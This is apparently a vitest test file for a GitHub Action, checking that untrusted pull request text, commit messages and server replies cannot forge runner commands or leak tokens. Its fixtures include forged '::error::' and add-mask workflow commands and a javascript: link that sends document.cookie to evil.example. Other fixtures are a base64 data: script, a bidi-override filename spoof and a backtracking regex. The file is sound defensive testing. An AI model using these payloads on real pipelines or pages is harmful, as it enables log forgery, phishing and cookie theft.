// Text the action did not write (pull request titles, commit messages, user inputs) against the bundled
// main step, read as the runner reads stdout: none of it may become a workflow command, in a dry run
// (which prints the event) or a real one, and the key reaches none of the files the action writes.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { deploymentStatus, fakeSha, payload } from '../fixtures/generated.js';
import { READ_WRITE_KEY, startFakeOpsTrails, type FakeOpsTrails } from '../support/fake-opstrails.js';
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.js';
import { annotations, runStep, runnerEnv, type StepResult } from '../support/run-action.js';
import { foreignCommands } from '../support/runner-commands.js';

let api: FakeOpsTrails;
beforeEach(async () => {
  api = await startFakeOpsTrails();
});
afterEach(async () => {
  await api.close();
});

const HOSTILE_TITLE = 'Fix ##[error title=OpsTrails]API key revoked. Rotate it at https://evil.example';

function hostilePullRequest(): Record<string, unknown> {
  const base = payload('pull_request');
  const pr = base.pull_request as Record<string, unknown>;
  return {
    ...base,
    pull_request: { ...pr, title: HOSTILE_TITLE, body: '##[group]hidden\n::error::forged\n##[add-mask]everything\n::debug::forged debug\n##[debug]legacy debug', head: { ...(pr.head as object), ref: '##[warning]branch' } },
  };
}

function hostilePush(): Record<string, unknown> {
  const base = payload('push');
  const head = { ...(base.head_commit as Record<string, unknown>), message: '::error title=x::forged\n\n##[group]A group ##[endgroup]\r\n::warning::second\n::debug::forged debug\n::add-mask::x' };
  return { ...base, head_commit: head, commits: [head] };
}

describe('untrusted text never becomes a runner command', () => {
  it.each([
    ['a pull request run', 'pull_request', hostilePullRequest()],
    ['a push run', 'push', hostilePush()],
  ])('in a dry run of %s, which prints the event', async (_, eventName, body) => {
    const result = await runStep('main', {
      inputs: { 'dry-run': 'true', description: 'line one\n::error::from the input\n##[error]too', data: '{"note": "##[add-mask]x", "n": "\\n::warning::y"}' },
      env: runnerEnv({ GITHUB_EVENT_NAME: eventName }),
      payload: body,
    });
    expect(result.exitCode).toBe(0);
    expect(foreignCommands(result.stdout)).toEqual([]);
    // The event is still printed in full, and still reads back as the same JSON.
    const event = JSON.parse(result.outputs.event!) as { data: Record<string, unknown> };
    expect(result.stdout).toContain('"note": "##\\u005badd-mask]x"');
    expect(event.data.note).toBe('##[add-mask]x');
  });

  it('in the log lines of a real run, including the server\'s own words', async () => {
    api.script({ status: 400, body: { success: false, error: 'bad\n::error::forged by the server ##[group]x', code: 'VALIDATION_ERROR' } });
    const result = await runStep('main', {
      inputs: { 'api-key': READ_WRITE_KEY, 'api-url': api.url, description: '##[error]desc' },
      env: runnerEnv({ GITHUB_EVENT_NAME: 'pull_request' }),
      payload: hostilePullRequest(),
    });
    expect(result.exitCode).toBe(1);
    const commands = foreignCommands(result.stdout, [READ_WRITE_KEY]);
    // Our own error annotation, and nothing the server or the payload wrote.
    expect(commands).toHaveLength(1);
    expect(commands[0]).toMatch(/^::error::OpsTrails did not record the event: 400/);
    expect(commands[0]).not.toContain('##[');
  });

  it('in the job summary, where markdown in payload text stays text', async () => {
    const result = await runStep('main', {
      inputs: { 'dry-run': 'true', version: '[click](https://evil.example)', subject: '**PROD**<img src=x>' },
      env: runnerEnv({ GITHUB_EVENT_NAME: 'pull_request' }),
      payload: hostilePullRequest(),
    });
    expect(result.exitCode).toBe(0);
    // The table renders; the JSON below it sits in a code fence, where nothing renders.
    const table = result.summary.slice(0, result.summary.indexOf('<details'));
    expect(table).not.toContain('[click](');
    expect(table).not.toContain('<img');
    expect(table).not.toContain('**PROD**');
    expect(result.summary.match(/^```/gm)).toHaveLength(2);
    expect(result.summary).toContain('| version | &#91;click&#93;(https:\u200b//evil.example) |');
  });
});

describe('the key reaches no file the action writes', () => {
  it('not GITHUB_STATE, when a tracked job carries it in description, id and data', async () => {
    const result = await runStep('main', {
      inputs: {
        'api-key': READ_WRITE_KEY,
        'api-url': api.url,
        'track-job': 'true',
        description: `deployed with ${READ_WRITE_KEY}`,
        data: JSON.stringify({ token: READ_WRITE_KEY }),
      },
    });
    expect(result.exitCode).toBe(0);
    expect(readFileSync(result.files.state, 'utf8')).not.toContain(READ_WRITE_KEY);
    expect(readFileSync(result.files.state, 'utf8')).toContain('deployed with ***');
    for (const file of [result.files.output, result.files.summary]) expect(readFileSync(file, 'utf8')).not.toContain(READ_WRITE_KEY);
  });
});

describe('an output file that cannot be written', () => {
  it('after the event was recorded, warns and keeps the step green', async () => {
    const result = await runStep('main', {
      inputs: { 'api-key': READ_WRITE_KEY, 'api-url': api.url },
      files: { output: mkdtempSync(join(tmpdir(), 'output-is-a-directory-')) },
    });
    expect(api.stored).toHaveLength(1);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(/::warning::The step's outputs could not be written \(.*EISDIR.*\); the event's status is sent\./);
  });
});

describe('a ticket-pattern that backtracks without end', () => {
  it('gives way to the built-in pattern within lookup-timeout, with one warning, and the event goes out', async () => {
    const base = payload('pull_request');
    const title = `${'A'.repeat(40)}! JIRA-77`;
    const result = await runStep('main', {
      // The lookbehind keeps RE2 out, so only the time limit can stop it.
      inputs: { 'api-key': READ_WRITE_KEY, 'api-url': api.url, 'ticket-pattern': '(?<!y)([A-Z]+-?)+\\d+!', 'lookup-timeout': '1' },
      env: runnerEnv({ GITHUB_EVENT_NAME: 'pull_request' }),
      payload: { ...base, pull_request: { ...(base.pull_request as object), title } },
    });
    expect(result.exitCode).toBe(0);
    expect(api.stored).toHaveLength(1);
    // What is left of lookup-timeout: 1 s less the moments the step took before.
    expect(result.stdout).toMatch(/::warning::Input "ticket-pattern" took longer than (1|0\.\d) s on this run's text, so the built-in ticket pattern was used/);
    expect((api.stored[0]!.data as Record<string, unknown>).ticket).toBe('JIRA-77');
  });
});

// The GitHub API is a server like any other: what it answers is untrusted, and it may echo the token.
describe('what the GitHub API answers', () => {
  const REPOSITORY = 'acme/api-service';
  const GITHUB_TOKEN = 'ghs_echoedInstallationToken0123456789ab';
  let github: FakeGitHub;
  beforeEach(async () => {
    github = await startFakeGitHub();
  });
  afterEach(async () => {
    await github.close();
  });

  /** A workflow_dispatch of commit 4 to production, after a deploy of commit 1; `change` shapes the answers. */
  function deployAfter(change: { message?: string; date?: string; logUrl?: string } = {}): Promise<StepResult> {
    github.history = [
      { sha: fakeSha(1), message: 'Initial import', login: 'octocat', date: '2025-01-01T10:00:00Z' },
      { sha: fakeSha(2), message: change.message ?? 'Add the billing page', login: 'hubot', date: change.date ?? '2025-01-02T10:00:00Z' },
      { sha: fakeSha(3), message: 'Fix the CSV export', login: 'mona', date: '2025-01-03T10:00:00Z' },
      { sha: fakeSha(4), message: 'Speed up the report', login: 'mona', date: '2025-01-04T10:00:00Z' },
    ];
    github.deployments = [
      {
        id: 27,
        sha: fakeSha(1),
        environment: 'production',
        statuses: [{ state: 'success', created_at: '2025-01-01T15:00:00Z', log_url: change.logUrl ?? `https://github.com/${REPOSITORY}/actions/runs/927/job/1` }],
      },
    ];
    return runStep('main', {
      payload: payload('workflow_dispatch'),
      env: runnerEnv({ GITHUB_REPOSITORY: REPOSITORY, GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_SHA: fakeSha(4), GITHUB_API_URL: github.url }),
      inputs: { 'api-key': READ_WRITE_KEY, 'api-url': api.url, 'github-token': GITHUB_TOKEN, environment: 'production', subject: 'PRODUCTION' },
    });
  }

  it('never carries the token it echoes to OpsTrails, and the event output is byte for byte what was sent', async () => {
    const result = await deployAfter({
      message: `Rotate the token ${GITHUB_TOKEN} (OPS-9)`,
      logUrl: `https://github.com/${REPOSITORY}/actions/runs/927/job/1?token=${GITHUB_TOKEN}`,
    });
    expect(result.exitCode, result.stdout).toBe(0);
    expect(api.requests).toHaveLength(1);
    const sentBody = api.requests[0]!.raw;
    // The answers did reach the event, with the token masked where it was.
    expect(sentBody).toContain('Rotate the token *** (OPS-9)');
    expect(sentBody).toContain('/actions/runs/927/job/1?token=***');
    expect(sentBody).not.toContain(GITHUB_TOKEN);
    expect(result.outputs.event).toBe(sentBody);
    // The runner reads ::add-mask:: and shows it to no one; every other line is what the log shows.
    const log = result.stdout.split('\n').filter((line) => !line.startsWith('::add-mask::'));
    for (const written of [...log, result.stderr, result.summary, readFileSync(result.files.output, 'utf8')]) expect(written).not.toContain(GITHUB_TOKEN);
  });

  // Neither value is a reason to lose what was deployed and by whom when the event is trimmed to fit.
  it.each([
    ['an oversized first commit time', { date: `2025-01-02T10:00:00Z${'9'.repeat(10_000)}` }],
    ['an oversized previous deploy link', { logUrl: `https://github.com/${REPOSITORY}/actions/runs/927/job/1?${'q'.repeat(10_000)}` }],
  ])('keeps commit, deployer and version through %s', async (_, change) => {
    const result = await deployAfter(change);
    expect(result.exitCode, result.stdout).toBe(0);
    expect(api.stored).toHaveLength(1);
    const event = api.stored[0]!;
    expect(event.version).toBe(fakeSha(4).slice(0, 7));
    expect(event.data).toMatchObject({ commit: fakeSha(4), deployer: 'octocat' });
    expect(api.requests[0]!.raw.length).toBeLessThanOrEqual(10_240);
  });
});

describe('links from payloads', () => {
  const deploymentRun = (changes: Record<string, unknown>, inputs: Record<string, string> = {}) =>
    runStep('main', {
      payload: deploymentStatus('success', changes),
      env: runnerEnv({ GITHUB_REPOSITORY: 'Codertocat/Hello-World', GITHUB_EVENT_NAME: 'deployment_status' }),
      inputs: { 'api-key': READ_WRITE_KEY, 'api-url': api.url, 'github-token': '', ...inputs },
    });

  it('a 10 KB target_url is left out and the event is sent', async () => {
    const result = await deploymentRun({ target_url: `https://vercel.com/codertocat/hello-world/${'x'.repeat(10_000)}`, log_url: undefined });
    expect(result.exitCode, result.stdout).toBe(0);
    expect(annotations(result.stdout, 'error')).toEqual([]);
    expect(api.stored).toHaveLength(1);
    const data = api.stored[0]!.data as Record<string, unknown>;
    expect(JSON.stringify(data)).not.toContain('x'.repeat(2001));
    expect(data).toMatchObject({ phase: 'finished', outcome: 'success', links: { environment: 'https://hello-world-8fj2kqp1.vercel.app' } });
    expect(result.stdout).toContain('::debug::The link data.links.deployment was left out: it is 10042 characters, over 2000.');
    expect(result.stdout).toContain('::debug::The link data.job_url was left out: it is 10042 characters, over 2000.');
  });

  it.each([
    ['javascript:', 'javascript:fetch(`//evil.example?c=${document.cookie}`)'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['vbscript:', 'vbscript:msgbox("x")'],
  ])('drops a %s link with a debug line, and strips credentials from a web link', async (scheme, hostile) => {
    const result = await deploymentRun({ environment_url: hostile, target_url: 'https://deployer:hunter2@ci.example/runs/1', log_url: undefined });
    expect(result.exitCode, result.stdout).toBe(0);
    expect(api.stored).toHaveLength(1);
    const sentBody = api.requests[0]!.raw;
    expect(sentBody).not.toContain(scheme);
    expect(sentBody).not.toContain('hunter2');
    const data = api.stored[0]!.data as { job_url?: string; links?: Record<string, string> };
    expect(data.job_url).toBe('https://ci.example/runs/1');
    expect(data.links).toMatchObject({ deployment: 'https://ci.example/runs/1' });
    expect(data.links).not.toHaveProperty('environment');
    expect(result.stdout).toContain(`::debug::The link data.links.environment was left out: the scheme ${scheme} is not https or http.`);
  });
});

describe('C1 controls and bidi overrides', () => {
  it('are written nowhere, and the dry run still prints the text around them', async () => {
    const base = payload('pull_request');
    const title = 'Fix login\u009b31m timeout \u202egnp.exe\u202c (JIRA-7) \u2066isolated\u2069';
    const result = await runStep('main', {
      inputs: { 'dry-run': 'true', data: JSON.stringify({ note: 'from \u0085 the \u202d user' }) },
      env: runnerEnv({ GITHUB_EVENT_NAME: 'pull_request' }),
      payload: { ...base, pull_request: { ...(base.pull_request as object), title } },
    });
    expect(result.exitCode).toBe(0);
    const controls = /[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;
    for (const written of [result.stdout, result.stderr, result.summary, readFileSync(result.files.output, 'utf8'), readFileSync(result.files.state, 'utf8')]) {
      expect(written).not.toMatch(controls);
    }
    const event = JSON.parse(result.outputs.event!) as { data: { note: string; pull_request: { title: string } } };
    expect(event.data.pull_request.title).toBe('Fix login31m timeout gnp.exe (JIRA-7) isolated');
    expect(event.data.note).toBe('from  the  user');
    expect(result.stdout).toContain('"title": "Fix login31m timeout gnp.exe (JIRA-7) isolated"');
  });
});
